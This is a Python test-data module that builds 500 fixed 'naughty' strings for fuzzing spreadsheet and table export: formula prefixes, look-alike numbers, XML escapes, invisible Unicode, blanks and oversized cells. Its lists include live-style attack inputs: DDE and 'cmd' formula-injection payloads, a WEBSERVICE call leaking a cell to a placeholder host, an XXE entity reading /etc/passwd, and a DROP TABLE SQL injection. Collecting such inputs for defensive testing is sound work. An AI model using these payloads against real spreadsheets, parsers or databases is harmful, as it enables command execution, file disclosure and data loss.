"""500 texts that have broken a table somewhere: formulas, numbers that are none, XML, signs nobody sees, sizes."""

from __future__ import annotations

from collections.abc import Iterator
from random import Random

COUNT = 500
SIGNS = ("=", "+", "-", "@", "\t=", "\n=", "\r=", " =", "'=", '"=', "\uff1d", "\uff0b", "\uff0d", "\uff20", "%=", ";=")
BODIES = (
    "1+1",
    "SUM(A1:A9)",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://contoh.invalid";"klik")',
    'DDE("cmd";"/C calc";"x")',
    'WEBSERVICE("http://contoh.invalid/"&A1)',
    "A1",
    "1;=2",
)
LIKE_OTHERS = (
    *("1/2/2026", "01-02-26", "2026-11-23", "23 Nov 2026", "12:30", "1e5", "1E+308", "-1e-400", "0x1F", "00123", "007"),
    *("3513211010809001", "3.5132110108E+15", "19800101 200501 1 001", "+62812000009001", "0812-0000-9001", "1,5"),
    *("1.234.567,89", "1,234,567.89", "50%", "Rp 1.000", "TRUE", "FALSE", "benar", "NaN", "Infinity", "-0", "-", "+"),
    *("#REF!", "#N/A", "#NAME?", "NULL", "nil", "None", "undefined", "(1)", "1-2", "3/4", "½", "٣٥١٣", "1_000", "MAR1"),
)
XML = (
    *("&amp;", "&#0;", "&#x1F;", "&lt;b&gt;", "<b>tebal</b>", "<!-- x -->", "<![CDATA[x]]>", "]]>", "<?xml?>", "&"),
    *("<r><t>x</t></r>", "<r>&</r>", "</t></is></c></row>", "<f>1+1</f>", '" onload="x', "&nbsp;", "&#10;", "<", ">"),
    *(
        "_x0041_",
        "_x000D_",
        "_x005F_x0041_",
        "_x0000_",
        "_xD800_",
        "_X0041_",
        "_x004_",
        "<r>_x0041_</r>",
        "x_x0009_y",
        "&lt;",
        "&quot;",
    ),
    *('<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;', "%3Cb%3E", "\\x3c", "{{7*7}}", "${7*7}", "<%= 7 %>"),
)
SEEN_BY_NOBODY = (
    *("\u200b", "a\u200bb", "\u200d", "\ufeffBOM", "\u00a0", "\u00ad", "\u2028", "\u2029", "\u0085", "\u202eتسا\u202c"),
    *(
        "\u2066x\u2069",
        "e\u0301",
        "Ṕ̷̡",
        "👨‍👩‍👧",
        "🏠" * 3,
        "🇮🇩",
        "❤️",
        "\U0001f9d1🏽",
        "\U000e0041",
        "\U0010ffff",
        "\ufdd0",
        "ﷺ",
    ),
    *("العربية", "עברית", "中文", "ไทย", "ꦗꦮ", "Å", "ß", "ŉ", "İ", "\u1680", "\u3000", "\ue000", "�"),
)
BLANKS = (
    *("", " ", "  ", "\t", "\n", "\r", "\r\n", " a", "a ", "a\nb", "a\r\nb", "a\rb", "\na", "a\n", "\n\n", "a\tb"),
    *("a  b", " \n ", "\ta", "a\t", "\va", "\fa", " = 1"),
)
HALVES = ("\ud800", "a\udfffb", "\udc00\ud800", "x\ud83d", "\ufffe", "\uffff", "a\ufffeb", "\U0001fffe")
QUOTED = (
    *(
        '"',
        '""',
        '"""',
        "'",
        "''",
        "'a",
        "''=1",
        '"a";"b"',
        "a;b",
        "a,b",
        "a|b",
        '";=1',
        '\n"',
        "`",
        "‘’“”",
        "\\",
        "\\n",
    ),
    *(
        "' OR 1=1 --",
        "'; DROP TABLE families; --",
        "../../x",
        "C:\\x",
        "\\\\server\\x",
        "http://contoh.invalid/?a=1&b=2",
    ),
    *("mailto:x@contoh.invalid", "file:///x", "internal:Sheet1!A1", "external:x.xlsx", "www.contoh.invalid", "ftp://x"),
)
LENGTHS = (32_766, 32_767, 32_768, 40_000, 70_000)


def _by_rule() -> Iterator[str]:
    yield from (sign + body for sign in SIGNS for body in BODIES)
    for kind in (LIKE_OTHERS, XML, SEEN_BY_NOBODY, BLANKS, HALVES, QUOTED):
        yield from kind
    yield from (f"a{chr(code)}b" for code in (*range(0x20), *range(0x7F, 0xA0)))
    yield from ("x" * length for length in LENGTHS)
    yield from (
        "=" * 32_767,
        "🏠" * 16_383,
        "🏠" * 16_384,
        "🏠" * 20_000,
        "a\n" * 20_000,
        "&" * 32_767,
        "\x00" * 40_000,
    )


def naughty() -> list[str]:
    """Return the texts, the same every time; what is missing to 500 is put together from all the others."""
    found = list(dict.fromkeys(_by_rule()))
    draw, short = Random(35), [one for one in found if len(one) < 40]
    while len(found) < COUNT:
        found.append(draw.choice(SIGNS) + "".join(draw.choice(short) for _ in range(draw.randint(2, 5))))
    return found[:COUNT]
